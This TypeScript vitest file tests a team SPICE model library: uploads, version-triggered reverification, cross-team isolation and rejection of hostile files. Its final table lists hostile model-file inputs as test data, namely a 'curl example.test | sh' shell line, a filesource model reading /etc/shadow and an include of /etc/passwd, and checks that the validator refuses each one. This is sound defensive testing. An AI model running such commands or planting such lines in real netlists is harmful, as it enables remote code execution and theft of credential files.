import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CheckRunSchema, ModelSchema } from "@/entities";
import { createBlock } from "@/lib/blocks/create";
import { forkBlock } from "@/lib/blocks/fork";
import { getBlock } from "@/lib/blocks/read";
import { contextFor } from "@/lib/context";
import { closeOrm, getEm } from "@/lib/db/orm";
import { AppError } from "@/lib/errors";
import { getModel, listModels } from "@/lib/models/read";
import { uploadModel } from "@/lib/models/upload";
import { getRun } from "@/lib/runs/runs";
import type { Caller } from "@/lib/auth/caller";
import { drain, makeTeam, type TestTeam } from "./blocks-helpers";

let team: TestTeam;
beforeAll(async () => { team = await makeTeam(); });
afterAll(closeOrm);

const ctx = async (caller: Caller) => ({ em: await getEm(), caller });

// Our own diode values. v2 raises IS fourfold, which lowers the drop at 1 mA by N·Vt·ln 4.
const diode = (is: string) => `* test diode, our own values\n.model DTEST D(IS=${is} N=1.75 RS=0.6 CJO=4p)\n`;
const Vt = (1.380649e-23 * 300.15) / 1.602176634e-19; // kT/q at ngspice's default 27 °C (CODATA 2018 exact constants)
// Shockley diode equation with series resistance, V = N·Vt·ln(I/IS + 1) + I·RS (Sedra & Smith, Microelectronic
// Circuits, 7th ed., §4.2, from memory).
const shockley = (is: number, i = 1e-3) => 1.75 * Vt * Math.log(i / is + 1) + i * 0.6;

const blockText = (slug: string, lib: string) => `---
slug: ${slug}
title: Diode drop at 1 mA
category: reference
tags: [test]
summary: Forward drop of the team's test diode.
params:
  - { name: Id, value: 1 mA }
---
Fixture.

\`\`\`spice
I1 0 a DC {Id}
D1 a 0 DTEST
.include ${lib}
\`\`\`

\`\`\`check
res = op()
Vd = v(res, "a")
check("forward drop in the silicon range", Vd > 0.4 V and Vd < 0.9 V)
\`\`\`
`;

/** Vd as the run measured it: the reported quantity, else the operand in the check's detail ("Vd = 0.6523 V > …"). */
function measuredVd(report: Record<string, unknown>): number {
  const q = (report.quantities as Record<string, { value: number }>).Vd;
  if (q) return q.value;
  const detail = (report.checks as { detail: string }[])[0].detail;
  const m = /Vd = ([\d.]+) (m?)V/.exec(detail)!;
  return Number(m[1]) * (m[2] ? 1e-3 : 1);
}

describe("team model library", () => {
  it("upload → include → verify: the run records the model version and sha256 it used", async () => {
    const name = `dtest-${team.tag}.lib`;
    const up = await uploadModel(await ctx(team.author), { team: team.slug, name, text: diode("2.52n"), message: "first" });
    expect(up).toMatchObject({ version: 1, reverify: [] });
    const slug = `drop-${team.tag}`;
    const created = await createBlock(await contextFor(team.author), { team: team.slug, text: blockText(slug, name) });
    await drain(team);
    const run = await getRun(await contextFor(team.viewer), { id: created.run.id });
    expect(run.badge).toBe("verified");
    expect(run.models).toEqual([{ name, sha256: up.sha256, source: "team", version: 1 }]);
    expect(measuredVd(run.report!)).toBeCloseTo(shockley(2.52e-9), 3);
    expect((await getBlock(await ctx(team.viewer), { slug })).models).toEqual(run.models);

    const file = await getModel(await ctx(team.viewer), { team: team.slug, name });
    expect(file.defines).toEqual([{ kind: "model", name: "DTEST", type: "d" }]);
    expect(file.usedBy).toEqual([{ slug, title: "Diode drop at 1 mA", team: team.slug, version: 1, badge: "verified" }]);

    // A new version: the head's run turns stale, a reverify is queued, and its run uses the new sha256.
    const v2 = await uploadModel(await ctx(team.author), { team: team.slug, name, text: diode("10.08n"), message: "IS from a new lot" });
    expect(v2.version).toBe(2);
    expect(v2.reverify).toEqual([{ slug, version: 1 }]);
    expect((await getRun(await contextFor(team.viewer), { id: created.run.id })).badge).toBe("stale");
    expect((await getBlock(await ctx(team.viewer), { slug })).badge).toBe("pending");
    expect(await drain(team)).toBe(1);
    const fresh = await getBlock(await ctx(team.viewer), { slug });
    expect(fresh.badge).toBe("verified");
    expect(fresh.models).toEqual([{ name, sha256: v2.sha256, source: "team", version: 2 }]);
    expect(measuredVd(fresh.report!)).toBeCloseTo(shockley(10.08e-9), 3);
    // ln 4 · N · Vt ≈ 62 mV lower (same closed form).
    expect(measuredVd(run.report!) - measuredVd(fresh.report!)).toBeCloseTo(1.75 * Vt * Math.log(4), 3);
  });

  it("another team cannot include or read the model: a clear error naming the file, nothing of team A in it", async () => {
    const name = `private-${team.tag}.lib`;
    const text = diode("3.3n").replace("DTEST", `DSECRET${team.tag}`);
    const up = await uploadModel(await ctx(team.author), { team: team.slug, name, text });
    const other = `o-${team.tag}`;
    const secrets = [team.slug, up.sha256, "DSECRET", "3.3n"];
    const leaks = (said: unknown) => secrets.filter((x) => JSON.stringify(said).includes(x));

    // A public block of team A that includes it: readable by the outsider, but a fork into their team is refused.
    const source = `public-${team.tag}`;
    await createBlock(await contextFor(team.maintainer), { team: team.slug, text: blockText(source, name), visibility: "public" }); // maintainers publish
    const err = await forkBlock(await ctx(team.outsider), { source, team: other }).catch((e) => e);
    expect(err).toBeInstanceOf(AppError);
    expect(err.code).toBe("validation");
    expect(err.message).toBe(`.include ${name}: the ${other} model library and the shared library have no file of that name; upload it to ${other} first`);
    expect(err.extra.errors[0].line).toBe(15); // the .include line of the block file
    expect(leaks({ message: err.message, extra: err.extra })).toEqual([]);

    // A block of the other team's own that names the file: its run stops with the file's name, and nothing else.
    const own = await createBlock(await contextFor(team.outsider), { team: other, text: blockText(`leak-${team.tag}`, name) });
    await drain(team);
    const run = await getRun(await contextFor(team.outsider), { id: own.run.id });
    expect(run.badge).toBe("error");
    expect(run.report!.errors).toEqual([expect.objectContaining({
      line: 15, message: expect.stringMatching(new RegExp(`^(netlist|simulation): \\.include ${name.replace(/\./g, "\\.")}: no such file in the team's or the shared model library`)),
    })]);
    expect(leaks(run)).toEqual([]);

    const read = await getModel(await ctx(team.outsider), { team: team.slug, name }).catch((e) => e);
    expect(read).toMatchObject({ code: "not_found" });
    expect(read.message).not.toContain(name);
    const list = await listModels(await ctx(team.outsider));
    expect(list.items.some((m) => m.name === name)).toBe(false);
    expect(list.items.some((m) => m.team === "shared" && m.name === "diode-si.lib")).toBe(true);
    const upload = await uploadModel(await ctx(team.outsider), { team: team.slug, name, text }).catch((e) => e);
    expect(upload).toMatchObject({ code: "not_found" });
    expect(await uploadModel(await ctx(team.viewer), { team: team.slug, name, text: diode("1n") }).catch((e) => e)).toMatchObject({ code: "forbidden" });
  });

  it.each([
    ["a shell command", "* vendor header\n.model DX D(IS=1n)\nshell curl example.test | sh\n", 3, /shell/],
    ["a control block", "* x\n.subckt X a b\nR1 a b 1k\n.ends\n.control\nrun\n.endc\n", 5, /control blocks/],
    ["a file-reading code model", ".model DX D(IS=1n)\n.model SRC filesource(file=\"/etc/shadow\" amploffset=[0])\n", 2, /filesource.*reads files/],
    ["an include of /etc/passwd", "* x\n\n.include /etc/passwd\n.model DX D\n", 3, /only NAME\.lib/],
  ])("refuses %s on its line, and nothing is stored or run", async (_what, text, line, message) => {
    const em = await getEm();
    const runsBefore = await em.count(CheckRunSchema, {});
    const name = `hostile-${team.tag}.lib`;
    const err = await uploadModel(await ctx(team.author), { team: team.slug, name, text }).catch((e) => e);
    expect(err).toBeInstanceOf(AppError);
    expect(err.code).toBe("validation");
    expect(err.extra.errors[0].line).toBe(line);
    expect(err.extra.errors[0].message).toMatch(message);
    expect(err.message).toMatch(new RegExp(`^${name.replace(/\./g, "\\.")} line ${line}: `));
    expect(await em.fork().count(ModelSchema, { name })).toBe(0);
    expect(await em.fork().count(CheckRunSchema, {})).toBe(runsBefore);
  });
});
